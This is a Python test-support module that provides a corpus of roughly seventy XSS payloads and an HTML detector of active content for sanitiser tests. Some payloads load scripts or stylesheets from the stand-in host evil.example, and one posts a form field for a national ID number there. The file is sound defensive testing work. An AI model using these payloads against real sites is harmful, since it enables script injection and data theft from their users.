"""THE corpus of hostile inputs, and the detector of active content, shared by every test that
puts editor or reader text on a page (tests/test_markdown.py, tests/test_sikkerhet.py)."""

import re
from collections import Counter
from html.parser import HTMLParser

HOSTILE = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # event handlers
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<p title="x" onmouseover="alert(1)">x</p>',
    '<details open ontoggle="alert(1)">x</details>',
    "<body onload=alert(1)>",
    '<div/onpointerenter="alert(1)">x</div>',
    "<strong onclick=alert(1)>fet</strong>",
    '<table><tr><td onclick="alert(1)">x</td></tr></table>',
    # javascript:, vbscript:, data: URLs
    '<a href="javascript:alert(1)">klikk</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    # markdown link tricks
    "[klikk](javascript:alert(1))",
    "[klikk](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bilde](javascript:alert(1))",
    '![bilde](x "onerror=alert(1)")',
    "[x](javascript&colon;alert(1))",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](<javascript:alert(1)>)",
    # entity-encoded schemes
    "[klikk](&#106;avascript:alert(1))",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    # SVG and MathML
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # broken, nested and unclosed tags
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<b><i><script>alert(1)</b></i>",
    "<p><p><p><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # meta refresh, base, iframes, objects
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # form injection
    '<form action="https://evil.example"><input name="fnr"></form>',
    '<button formaction="javascript:alert(1)">send</button>',
    '<input type="image" src=x onerror=alert(1)>',
    '<textarea autofocus onfocus="alert(1)"></textarea>',
    # media
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<abbr title="x" onmouseover="alert(1)">XSS</abbr>',
]

# Tags that never belong in editor or reader text.
FARLEGE_TAGGAR = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "svg",
    "math",
    "object",
    "embed",
    "applet",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "img",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "portal",
}
URL_ATTR = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster", "background"}
FARLEGE_SKJEMA = ("javascript:", "vbscript:", "livescript:", "data:")


class _Tagger(HTMLParser):
    """Reads tags and attributes the way a browser tokenizer does (entities decoded)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tagger = []

    def handle_starttag(self, tag, attrs):
        self.tagger.append((tag.lower(), [(k.lower(), v or "") for k, v in attrs]))

    handle_startendtag = handle_starttag


def _er_farlig(navn, attrs):
    if navn in FARLEGE_TAGGAR:
        return True
    for k, v in attrs:
        if k.startswith("on") or k == "style" or "/on" in k:
            return True
        # A browser strips leading/trailing C0 and spaces and drops tabs and newlines anywhere.
        url = re.sub(r"[\t\n\r]", "", v.strip("".join(map(chr, range(0x21))))).lower()
        if k in URL_ATTR and url.startswith(FARLEGE_SKJEMA):
            return True
    return False


def aktive_funn(html):
    """Every tag in html that would be active in a browser: a dangerous element, an event
    handler, a style attribute, or a script/data URL (after the browser's entity decoding and
    its ignoring of tabs and newlines inside a scheme). Counted, so a page can be compared with
    a baseline of the same page with harmless text."""
    p = _Tagger()
    # The closing ">" completes a tag left open at the end, as the rest of a page would.
    p.feed(html + "\n>")
    p.close()
    funn = Counter()
    for navn, attrs in p.tagger:
        if _er_farlig(navn, attrs):
            funn[_nokkel(navn, attrs)] += 1
    return funn


# Attributes whose values tell one kind of tag from another; ids, classes, ARIA state, nonces
# and form values vary from response to response and say nothing about danger.
KJENNETEIKN = URL_ATTR | {"type", "name", "http-equiv", "content", "rel", "style"}


def _nokkel(navn, attrs):
    return (
        navn,
        tuple(
            sorted(
                (k, v if (k in KJENNETEIKN or k.startswith("on")) else "")
                for k, v in attrs
                if k not in ("id", "class", "nonce", "value") and not k.startswith(("aria-", "data-"))
            )
        ),
    )


def er_aktiv(html):
    return bool(aktive_funn(html))


def nye_aktive(html, grunnlinje):
    """Kinds of active tag in html that the baseline page (the same page with harmless text)
    does not have. A set, not a count: pages list one form per version and the like."""
    return set(aktive_funn(html)) - set(aktive_funn(grunnlinje))
